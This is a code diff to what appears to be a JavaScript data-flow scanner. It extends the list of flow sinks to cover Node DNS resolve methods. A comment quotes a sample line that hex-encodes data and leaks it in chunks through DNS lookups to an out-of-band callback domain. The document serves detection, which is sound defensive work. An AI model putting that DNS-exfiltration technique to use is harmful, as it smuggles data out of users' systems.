@@ -12,7 +12,7 @@ import { FUNCTION_TYPES, type AstNode, type FlowFacts, type JsAssignment, ASSIGN
 // The iteration methods hand each element of the receiver to the callback's parameters, as for…of does
 // (`toHex(data).match(/.{1,60}/g).forEach((c) => dns.lookup(c + '.x.oast.fun'))` splits data into labels).
 const ITERATION_METHODS = /^(forEach|map|flatMap|filter|reduce|some|every|find)$/;
-const FLOW_METHODS = new RegExp(`^(write|end|send|post|put|patch|emit|then|on|once|pipe|json|text|arrayBuffer|buffer|connect|open|push|unshift|append|set|add|concat|assign|sendBeacon|setRequestHeader|request|get|readText|writeText|submit|upload|sendDocument|sendMessage|sendMail|publish)$|${ITERATION_METHODS.source}`);
+const FLOW_METHODS = new RegExp(`^(write|end|send|post|put|patch|emit|then|on|once|pipe|json|text|arrayBuffer|buffer|connect|open|push|unshift|append|set|add|concat|assign|sendBeacon|setRequestHeader|request|get|readText|writeText|submit|upload|sendDocument|sendMessage|sendMail|publish|resolve(?:4|6|Txt|Any|Cname|Mx|Ns|Srv|Ptr|Soa|Naptr|Caa))$|${ITERATION_METHODS.source}`);
 const COLLECTING_METHODS = /^(push|unshift|append|set|add|assign|write|concat)$/;
 
 /**
